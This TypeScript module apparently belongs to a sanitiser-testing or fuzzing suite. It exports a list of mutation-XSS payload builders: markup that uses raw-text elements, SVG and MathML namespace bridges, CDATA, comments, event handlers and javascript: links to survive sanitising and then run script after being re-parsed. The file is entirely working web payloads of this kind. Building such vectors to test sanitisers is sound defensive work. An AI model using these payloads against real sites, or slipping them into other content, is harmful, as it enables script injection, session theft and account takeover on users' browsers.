import type { Compose } from './vector.ts';

const tag = (code: string): string => `<img src=x: onerror=${code}>`;

/** Elements whose content is text for one parser and markup for the next. */
const RAW = ['style', 'title', 'textarea', 'xmp', 'iframe', 'noembed', 'noscript', 'noframes', 'script', 'plaintext'];
/** Elements that lead back from SVG and MathML into HTML. */
const BRIDGES = [
  'desc',
  'title',
  'foreignObject',
  'mtext',
  'mi',
  'mo',
  'mn',
  'ms',
  'annotation-xml encoding="text/html"',
];

/** Markup that is harmless when first parsed, and is not after serialising and parsing it again. */
export const MUTATIONS: readonly Compose[] = [
  ...RAW.flatMap((name): readonly Compose[] => [
    (code) => `<${name}><p id="</${name}>${tag(code)}"></${name}>`,
    (code) => `<svg><${name}><p id="</${name}>${tag(code)}"></${name}></svg>`,
    (code) => `<math><${name}><p id="</${name}>${tag(code)}"></${name}></math>`,
  ]),
  ...BRIDGES.map((name): Compose => {
    const root = name.startsWith('m') || name.startsWith('annotation') ? 'math' : 'svg';
    return (code) => `<${root}><${name}><style><!--</style>${tag(code)}--></${name.split(' ')[0]}></${root}>`;
  }),
  ...BRIDGES.map((name): Compose => {
    const root = name.startsWith('m') || name.startsWith('annotation') ? 'math' : 'svg';
    return (code) => `<${root}><${name}>${tag(code)}`;
  }),
  (code) => `<form><math><mtext></form><form><mglyph><style></math>${tag(code)}`,
  (code) => `<math><mtext><table><mglyph><style><!--</style>${tag(code)}-->`,
  (code) => `<math><mtext><table><mglyph><svg><mtext><style><a title="</style>${tag(code)}">`,
  (code) => `<svg></p><style><a id="</style>${tag(code)}">`,
  (code) => `<svg><p><style><!--</style>${tag(code)}-->`,
  (code) => `<math></p><style><!--</style>${tag(code)}-->`,
  (code) => `<select><style></select>${tag(code)}</style></select>`,
  (code) => `<table><td><svg><desc><td></desc></svg><style><a title="</style>${tag(code)}"></td></table>`,
  (code) => `<noscript><p title="</noscript>${tag(code)}">`,
  (code) => `<template><style></template>${tag(code)}</style></template>`,
  (code) => `<svg><![CDATA[><image href="]]>${tag(code)}"/></svg>`,
  (code) => `<svg><style><![CDATA[</style>${tag(code)}]]></style></svg>`,
  (code) => `<p id="--><!--">${tag(code)}`,
  (code) => `<a title="\`\`"onmouseover=${code} autofocus onfocus=${code} \`">x</a>`,
  (code) => `<listing>&lt;img src=x: onerror=${code}&gt;</listing>`,
  (code) => `<svg><a><foreignobject><a><table><a></table><style><!--</style></svg><a id="-->${tag(code)}">`,
  (code) => `<math><annotation-xml encoding="application/xhtml+xml">${tag(code)}</annotation-xml></math>`,
  (code) =>
    `<math><semantics><annotation-xml encoding="text/html"><svg onload=${code}></annotation-xml></semantics></math>`,
  (code) =>
    `<math><maction actiontype="statusline#https://elsewhere.example" xlink:href="javascript:${code}">x</maction></math>`,
  (code) => `<math><mi xlink:href="javascript:${code}" href="javascript:${code}">x</mi></math>`,
  (code) => `<math><mtext>&lt;img src=x: onerror=${code}&gt;</mtext></math>`,
  (code) => `<math><mi>\\href{javascript:${code}}{x}</mi></math>`,
  (code) => `<math><mtext>}\\href{javascript:${code}}{x</mtext></math>`,
  (code) => `<math><mi mathvariant="\\href{javascript:${code}}">x</mi></math>`,
];
